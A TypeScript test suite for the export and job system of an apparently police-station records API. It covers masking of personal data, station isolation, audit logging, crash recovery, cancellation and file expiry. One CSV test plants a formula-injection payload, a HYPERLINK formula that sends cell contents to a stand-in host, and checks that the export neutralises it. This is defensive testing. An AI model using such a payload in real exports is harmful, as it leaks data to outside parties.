import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { access, readdir } from 'node:fs/promises';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { sql } from 'kysely';
import { pino } from 'pino';
import { asApplication } from '../database/transaction.ts';
import { EventFeed } from '../events/event-feed.ts';
import { exportJobs } from '../exports/make-export.ts';
import { JobWorker } from '../jobs/job-worker.ts';
import { AttachmentStore } from '../storage/attachment-store.ts';
import type { FileStore } from '../storage/file-store.ts';
import { FolderStore } from '../storage/folder-store.ts';
import { newUuid } from '../uuid.ts';
import { ManualTimers } from './manual-timers.ts';
import { type Engine, type Loose, startOfTests, testKeys, World } from './world.ts';

const supervisor = 'puqian-supervisor-1';
const purpose = 'supervision';
const allTime = { from: '2020-01-01', until: '2026-12-31' };
const everything = [
  'premises',
  'doorplates',
  'stays',
  'rental-checks',
  'hazards',
  'ratings',
  'alerts',
  'shift-handovers',
];

export function exportsSuite(engine: Engine): void {
  describe('exports and their jobs', () => {
    let world: World;
    let stationId = '';
    before(async () => {
      world = await World.open(engine);
      stationId = world.data.accounts.find(({ subject }) => subject === supervisor)?.stationId ?? '';
    });
    after(() => world.close());

    const start = async (body: object, id = newUuid()) => {
      const headers = { 'if-none-match': '*' };
      const reply = await world.call('PUT', `/v1/exports/${id}`, { as: supervisor, body, headers });
      return { id, reply, job: reply.json };
    };
    const get = (path: string, as = supervisor) => world.call('GET', path, { as, purpose });
    const jobOf = async (job: Loose) => (await get(`/v1/jobs/${job.id}`)).json;
    const audited = async () =>
      (
        await sql<{ operation: string; records: string[]; outcome: number; account_id: string }>`
          select operation, records, outcome, account_id from audit_queue
          where operation like 'exports.%'`.execute(world.database.kysely)
      ).rows;

    /** A worker as another process has one, with a page so small that a file has many pieces. */
    const worker = (
      attachments = new AttachmentStore(new FolderStore(join(world.folder, 'attachments')), testKeys),
      pageSize = 7,
    ) => {
      const { database, clock } = world;
      const log = pino({ level: 'silent' });
      const timers = new ManualTimers(clock);
      const events = new EventFeed(database, timers, log);
      const kinds = {
        export: exportJobs({ database, attachments, clock, events, plateBase: 'https://x.example/D/', pageSize }),
      };
      return new JobWorker({ database, clock, timers, events, log, kinds });
    };

    test('a file of all modules holds each record of the station once and none of another, masked', async () => {
      const { id, reply } = await start({ modules: everything, ...allTime, format: 'json-lines' });
      assert.equal(reply.status, 202, reply.text);
      assert.deepEqual([reply.json.kind, reply.json.state, reply.json.result], ['export', 'waiting', null]);
      assert.equal((await get(`/v1/exports/${id}/content`)).json.code, 'state-conflict');
      await worker().settle();

      const job = await jobOf(reply.json);
      assert.equal(job.state, 'succeeded');
      assert.equal(job.result, `/v1/exports/${id}`);
      const made = (await get(`/v1/exports/${id}`)).json;
      assert.equal(made.state, 'ready');
      const { data } = world;
      const own = <T extends { stationId: string }>(rows: readonly T[]) =>
        rows.filter((row) => row.stationId === stationId);
      const content = await get(`/v1/exports/${id}/content`);
      const lines = content.text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line));
      const idsOf = (module: string) =>
        lines.filter((line) => line.module === module).map((line) => line.record.id as string);
      for (const [module, rows] of [
        ['premises', data.premises],
        ['doorplates', data.doorplates],
        ['stays', data.stays],
        ['rental-checks', data.rentalChecks],
        ['hazards', data.hazards],
        ['alerts', data.alerts],
        ['shift-handovers', data.shiftHandovers],
      ] as const) {
        assert.deepEqual(
          idsOf(module).sort(),
          own<{ stationId: string; id: string }>(rows)
            .map((row) => row.id)
            .sort(),
        );
      }
      assert.equal(job.progress?.done, lines.length);
      assert.equal(job.progress?.total, lines.length);

      const bytes = Buffer.from(content.text);
      const file = made.file as Loose;
      assert.deepEqual(
        [file.size, file.sha256, file.records],
        [bytes.length, createHash('sha256').update(bytes).digest('hex'), lines.length],
      );
      assert.equal(content.headers.get('content-type'), 'application/x-ndjson');
      for (const person of data.persons) {
        assert.ok(!content.text.includes(person.identityNumber) && !content.text.includes(person.name));
        assert.ok(!content.text.includes(person.telephone.slice(3)));
      }
      for (const { reporter } of data.alerts) {
        assert.ok(reporter === null || !content.text.includes(reporter.telephone.slice(3)));
      }
      const stay = lines.find((line) => line.module === 'stays').record;
      assert.match(stay.person.identityNumber.masked, /^\d\*{16}[\dX]$/);
    });

    test('a stay that has fallen overdue is told as such, whether or not a task has written it down', async () => {
      const late = world.data.stays.find((stay) => stay.stationId === stationId && stay.state === 'current');
      assert.ok(late);
      await world.database.kysely
        .updateTable('stays')
        .set({ expected_end_on: '2026-11-21' })
        .where('id', '=', late.id)
        .execute();
      const { id } = await start({ modules: ['stays'], ...allTime, format: 'json-lines' });
      await worker().settle();
      const told = (await get(`/v1/stays/${late.id}`, 'puqian-officer-1')).json;
      const lines = (await get(`/v1/exports/${id}/content`)).text.trimEnd().split('\n');
      const { record } = lines.map((line) => JSON.parse(line)).find((line) => line.record.id === late.id);
      assert.equal(record.state, 'sign-off-overdue');
      assert.deepEqual(
        [record.state, record.version],
        [told.state, told.version].map((each) => each as unknown),
      );
    });

    test('the making names every person whose data went into the file, and each reading is logged', async () => {
      const { id } = await start({ modules: ['stays'], ...allTime, format: 'json-lines' });
      await worker().settle();
      await get(`/v1/exports/${id}/content`);
      const news = (await audited()).filter(({ records }) => records.includes(id));
      const account = world.data.accounts.find(({ subject }) => subject === supervisor)?.id;
      assert.ok(news.every((entry) => entry.account_id === account));
      const making = new Set(news.filter((entry) => entry.operation === 'exports.create').flatMap((e) => e.records));
      const persons = world.data.stays.filter((stay) => stay.stationId === stationId).map((stay) => stay.personId);
      assert.ok(persons.length > 30 && persons.every((personId) => making.has(personId)));
      const reading = news.filter((entry) => entry.operation === 'exports.getContent');
      assert.deepEqual(
        reading.map(({ outcome }) => outcome),
        [200],
      );
    });

    test('only what was made on the days asked for, both included, by the clock of the station', async () => {
      const own = world.data.stays.filter((stay) => stay.stationId === stationId);
      const dayOf = (at: string) => new Date(Date.parse(at) + 8 * 3_600_000).toISOString().slice(0, 10);
      const day = dayOf(own[0]?.registeredAt ?? '');
      const { id } = await start({ modules: ['stays'], from: day, until: day, format: 'json-lines' });
      await worker().settle();
      const lines = (await get(`/v1/exports/${id}/content`)).text.trimEnd().split('\n');
      const expected = own.filter((stay) => dayOf(stay.registeredAt) === day).map((stay) => stay.id);
      assert.deepEqual(lines.map((line) => JSON.parse(line).record.id).sort(), expected.sort());
    });

    test('a record that comes to be after the export was asked for is left out, and one that changes meanwhile comes once', async () => {
      const { id } = await start({ modules: ['premises'], ...allTime, format: 'json-lines' });
      const [first, second] = world.data.premises.filter((each) => each.stationId === stationId);
      const later = new Date(startOfTests.getTime() + 1000);
      await sql`
        insert into premises (station_id, id, address, community_code, use, storeys, created_at, updated_at)
        select station_id, '00000000-0000-7000-8000-00000000abcd', address, community_code, use, storeys, ${later}, ${later}
        from premises where station_id = ${stationId} and id = ${first?.id}`.execute(world.database.kysely);
      await sql`update premises set updated_at = ${later} where station_id = ${stationId} and id = ${second?.id}`.execute(
        world.database.kysely,
      );
      await worker().settle();
      const ids = (await get(`/v1/exports/${id}/content`)).text
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line).record.id);
      assert.equal(new Set(ids).size, ids.length);
      assert.ok(!ids.includes('00000000-0000-7000-8000-00000000abcd'));
      await sql`delete from premises where station_id = ${stationId} and id = '00000000-0000-7000-8000-00000000abcd'`.execute(
        world.database.kysely,
      );
    });

    test('CSV has one line a record under one head, and a text that a spreadsheet would calculate is text', async () => {
      const check = world.data.hazards.find((each) => each.stationId === stationId);
      const evil = '=HYPERLINK("http://x.example/"&A1,"ok")';
      await sql`update hazards set note = ${evil} where station_id = ${stationId} and id = ${check?.id}`.execute(
        world.database.kysely,
      );
      const { id } = await start({ modules: ['hazards', 'stays'], ...allTime, format: 'csv' });
      await worker().settle();
      const { text, headers } = await get(`/v1/exports/${id}/content`);
      assert.equal(headers.get('content-type'), 'text/csv; charset=utf-8');
      assert.match(headers.get('content-disposition') ?? '', /^attachment; filename="[\w.-]+\.csv"$/);
      const lines = text
        .replace(/^\uFEFF/, '')
        .trimEnd()
        .split('\r\n');
      assert.ok(lines[0]?.startsWith('module,id,premisesId,'));
      const { hazards, stays } = world.data;
      assert.equal(lines.length - 1, [...hazards, ...stays].filter((row) => row.stationId === stationId).length);
      assert.ok(text.includes(`"'=HYPERLINK(""http://x.example/""&A1,""ok"")"`));
      assert.doesNotMatch(text, /(^|,|\n)"?[=+@]/);
    });

    test('a process that dies leaves the job to another, which goes on; progress never goes back', async () => {
      const { id, job } = await start({ modules: everything, ...allTime, format: 'json-lines' });
      const store = new AttachmentStore(new FolderStore(join(world.folder, 'attachments')), testKeys);
      const gate = Promise.withResolvers<void>();
      const reached = Promise.withResolvers<void>();
      let pieces = 0;
      // The first process stops in the middle of a piece, as if its machine had stopped; it goes on much later.
      const halting = Object.assign(Object.create(store) as AttachmentStore, {
        async putPiece(...piece: Parameters<AttachmentStore['putPiece']>) {
          pieces += 1;
          if (pieces === 6) {
            reached.resolve();
            await gate.promise;
          }
          await store.putPiece(...piece);
        },
        readPiece: store.readPiece.bind(store),
        drop: store.drop.bind(store),
      });
      const first = worker(halting).settle();
      await reached.promise;
      const half = await jobOf(job);
      assert.deepEqual([half.state, half.progress?.done], ['running', 35]);
      await worker().settle();
      assert.equal((await jobOf(job)).state, 'running', 'while the lease holds nobody else takes it');

      world.clock.time = new Date(world.clock.time.getTime() + 61_000);
      await worker().settle();
      const whole = await jobOf(job);
      assert.equal(whole.state, 'succeeded');
      assert.ok(Number(whole.progress?.done) > 35);
      const { text } = await get(`/v1/exports/${id}/content`);
      gate.resolve();
      await first;
      assert.equal((await get(`/v1/exports/${id}/content`)).text, text, 'who was overtaken disturbs nothing');
      assert.deepEqual(await jobOf(job), whole);
      const lines = text.trimEnd().split('\n');
      const ids = lines.map((line) => {
        const { module, record } = JSON.parse(line) as { module: string; record: Record<string, string> };
        return `${module} ${record.id ?? record.premisesId}`;
      });
      assert.equal(new Set(ids).size, ids.length);
      assert.equal(ids.length, whole.progress?.total);
      world.clock.time = startOfTests;
    });

    test('a job that fails again and again is given up and says why; it tells an event', async () => {
      const { id, job } = await start({ modules: ['ratings'], ...allTime, format: 'csv' });
      const store = new AttachmentStore(new FolderStore(join(world.folder, 'attachments')), testKeys);
      const full = Object.assign(Object.create(store) as AttachmentStore, {
        putPiece: () => Promise.reject(Object.assign(new Error('no space left on device'), { code: 'ENOSPC' })),
      });
      for (let at = 0; at < 7; at += 1) {
        await worker(full).settle();
        world.clock.time = new Date(world.clock.time.getTime() + 31_000);
      }
      const failed = await jobOf(job);
      assert.deepEqual([failed.state, failed.problem?.code], ['failed', 'internal-error']);
      assert.equal((await get(`/v1/exports/${id}`)).json.state, 'failed');
      const { rows } = await sql<{ data: { state: string } }>`
        select data from events where type = 'job.finished' and subject = ${`/v1/jobs/${job.id}`}`.execute(
        world.database.kysely,
      );
      assert.deepEqual(
        rows.map(({ data }) => data.state),
        ['failed'],
      );
      assert.equal((await world.call('POST', `/v1/jobs/${job.id}/cancellation`, { as: supervisor })).status, 409);
      world.clock.time = startOfTests;
    });

    test('a cancelled job stops, what it made is gone, and it is not cancelled twice', async () => {
      const { id, job } = await start({ modules: everything, ...allTime, format: 'csv' });
      const store = new AttachmentStore(new FolderStore(join(world.folder, 'attachments')), testKeys);
      let pieces = 0;
      const cancelling = Object.assign(Object.create(store) as AttachmentStore, {
        async putPiece(...piece: Parameters<AttachmentStore['putPiece']>) {
          pieces += 1;
          if (pieces === 3) {
            const reply = await world.call('POST', `/v1/jobs/${job.id}/cancellation`, { as: supervisor });
            assert.deepEqual([reply.status, reply.json.state], [200, 'cancelled']);
          }
          await store.putPiece(...piece);
        },
        readPiece: store.readPiece.bind(store),
        drop: store.drop.bind(store),
      });
      await worker(cancelling).settle();
      assert.equal(pieces, 3, 'it stopped');
      assert.equal((await jobOf(job)).state, 'cancelled');
      assert.equal((await get(`/v1/exports/${id}`)).json.state, 'failed');
      assert.equal((await get(`/v1/exports/${id}/content`)).json.code, 'state-conflict');
      const files = await readdir(join(world.folder, 'attachments', stationId));
      assert.ok(!files.some((name) => name.startsWith(id)), 'no piece is left');
      const again = await world.call('POST', `/v1/jobs/${job.id}/cancellation`, { as: supervisor });
      assert.deepEqual([again.status, again.json.code], [409, 'state-conflict']);
    });

    test('deleting an export deletes its file, and cancels a job that has not finished', async () => {
      const waiting = await start({ modules: ['ratings'], ...allTime, format: 'csv' });
      const stale = await world.call('DELETE', `/v1/exports/${waiting.id}`, {
        as: supervisor,
        headers: { 'if-match': '"9"' },
      });
      assert.equal(stale.json.code, 'version-stale');
      const headers = { 'if-match': '"1"' };
      assert.equal((await world.call('DELETE', `/v1/exports/${waiting.id}`, { as: supervisor, headers })).status, 204);
      assert.equal((await jobOf(waiting.job)).state, 'cancelled');
      assert.equal((await get(`/v1/exports/${waiting.id}`)).status, 404);

      const ready = await start({ modules: ['ratings'], ...allTime, format: 'csv' });
      await worker().settle();
      const { headers: told } = await get(`/v1/exports/${ready.id}`);
      const folder = join(world.folder, 'attachments', stationId, `${ready.id}.pieces`);
      await access(folder);
      const gone = await world.call('DELETE', `/v1/exports/${ready.id}`, {
        as: supervisor,
        headers: { 'if-match': told.get('etag') ?? '' },
      });
      assert.equal(gone.status, 204, gone.text);
      assert.equal((await jobOf(ready.job)).state, 'succeeded', 'what has finished never changes again');
      await assert.rejects(access(folder));
    });

    test('who goes away while a file is read ends the reading of its pieces', async () => {
      const { id } = await start({ modules: ['ratings'], ...allTime, format: 'csv' });
      await worker().settle();
      const files: Partial<FileStore> = world.files;
      const asked: (AbortSignal | undefined)[] = [];
      files.read = (_name, signal) => {
        asked.push(signal);
        return new Promise(() => undefined);
      };
      try {
        const { app, token } = await world.direct(supervisor);
        const headers = { authorization: `Bearer ${token}`, 'wardkit-purpose': purpose };
        const response = await app(`/v1/exports/${id}/content`, { headers });
        assert.equal(response.status, 200);
        assert.deepEqual(
          asked.map((signal) => signal?.aborted),
          [false],
        );
        await response.body?.cancel();
        assert.deepEqual(
          asked.map((signal) => signal?.aborted),
          [true],
        );
      } finally {
        delete files.read;
      }
    });

    test('a file is gone after 7 days, and the export still tells what it was', async () => {
      const { id } = await start({ modules: ['ratings'], ...allTime, format: 'csv' });
      await worker().settle();
      const day = 24 * 3_600_000;
      world.clock.time = new Date(startOfTests.getTime() + 7 * day - 1000);
      assert.equal((await get(`/v1/exports/${id}/content`)).status, 200);
      world.clock.time = new Date(startOfTests.getTime() + 7 * day);
      const { headers, json } = await get(`/v1/exports/${id}`);
      assert.equal(json.state, 'expired');
      assert.equal((await get(`/v1/exports/${id}/content`)).json.code, 'state-conflict');
      await world.upkeep.runDue();
      const swept = await get(`/v1/exports/${id}`);
      assert.deepEqual([swept.json, swept.headers.get('etag')], [json, headers.get('etag')]);
      await assert.rejects(access(join(world.folder, 'attachments', stationId, `${id}.pieces`)));
      world.clock.time = startOfTests;
    });

    test('nobody of another station knows of an export or its job, and an officer may make none', async () => {
      const { id, job } = await start({ modules: ['ratings'], ...allTime, format: 'csv' });
      const other = 'rongcheng-administrator-1';
      for (const path of [`/v1/exports/${id}`, `/v1/exports/${id}/content`, `/v1/jobs/${job.id}`]) {
        assert.equal((await get(path, other)).status, 404, path);
      }
      assert.equal((await world.call('POST', `/v1/jobs/${job.id}/cancellation`, { as: other })).status, 404);
      assert.deepEqual((await get('/v1/exports', other)).json.items, []);
      assert.equal((await get('/v1/exports', 'puqian-officer-1')).status, 403);
      // The database says the same when the code's own condition is gone.
      const otherId = world.data.accounts.find(({ subject }) => subject === other)?.stationId ?? '';
      const seen = await asApplication(world.database, { stations: [otherId] }, (transaction) =>
        transaction.selectFrom('exports').select('id').execute(),
      );
      assert.deepEqual(seen, []);
      await world.call('POST', `/v1/jobs/${job.id}/cancellation`, { as: supervisor });
    });

    test('days in the wrong order, a module twice or one that is not kept here is refused, and an id is taken once', async () => {
      const refused = async (body: object) =>
        (await start({ ...allTime, format: 'csv', ...body })).reply.json.errors?.[0];
      assert.equal((await refused({ modules: ['stays', 'stays'] }))?.code, 'named-twice');
      assert.equal((await refused({ modules: ['audit-entries'] }))?.pointer, '/modules/0');
      assert.equal((await refused({ modules: ['stays'], from: '2026-02-01', until: '2026-01-01' }))?.pointer, '/until');
      const { id, job } = await start({ modules: ['ratings'], ...allTime, format: 'csv' });
      const again = await start({ modules: ['stays'], ...allTime, format: 'csv' }, id);
      assert.equal(again.reply.status, 412);
      await world.call('POST', `/v1/jobs/${job.id}/cancellation`, { as: supervisor });
    });

    test('jobs and exports are listed with the newest first, page by page', async () => {
      const first = await get('/v1/jobs?limit=3');
      const second = await get(`/v1/jobs?limit=3&cursor=${first.json.next}`);
      const items = [...(first.json.items ?? []), ...(second.json.items ?? [])];
      assert.equal(new Set(items.map(({ id }) => id)).size, 6);
      const times = items.map(({ createdAt, id }) => `${createdAt} ${id}`);
      assert.deepEqual(times, [...times].sort().reverse());
      const cancelled = await get('/v1/jobs?state=cancelled');
      assert.ok([...(cancelled.json.items ?? [])].every(({ state }) => String(state) === 'cancelled'));
      assert.ok([...((await get('/v1/exports')).json.items ?? [])].length > 5);
    });
  });
}
